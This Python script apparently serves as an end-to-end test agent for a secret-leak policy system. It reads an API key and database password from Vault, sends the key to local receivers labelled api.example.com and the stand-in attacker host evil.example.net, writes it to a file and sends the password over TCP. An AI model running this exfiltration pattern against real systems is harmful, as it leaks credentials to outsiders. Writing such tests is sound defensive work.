#!/usr/bin/python3
"""e2e agent for policies: reads secret/data/agent/openai and database/creds/readonly, then
sends the api_key as a Bearer header to two HTTP receivers (Host api.example.com to PORT_A,
Host evil.example.net to PORT_B), writes it to FILE, and sends the database password over
TCP to PORT_A.
usage: py_policy_leak.py VAULT_URL CREDS PORT_A PORT_B FILE"""
import json
import socket
import sys
import urllib.request

vault, creds, pa, pb, path = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
with open(creds) as f:
    token = json.load(f)["root_token"]


def read(p):
    req = urllib.request.Request(vault + "/v1/" + p, headers={"X-Vault-Token": token})
    with urllib.request.urlopen(req, timeout=10) as r:
        return json.load(r)["data"]


key = read("secret/data/agent/openai")["data"]["api_key"]
db = read("database/creds/readonly")
for port, host in ((pa, "api.example.com"), (pb, "evil.example.net")):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    s.sendall(("POST /chat HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"
               "Content-Length: 0\r\n\r\n" % (host, key)).encode())
    s.recv(100)
    s.close()
with open(path, "w") as f:
    f.write(key + "\n")
s = socket.create_connection(("127.0.0.1", pa), timeout=10)
s.sendall(("pw=%s\n" % db["password"]).encode())
s.close()
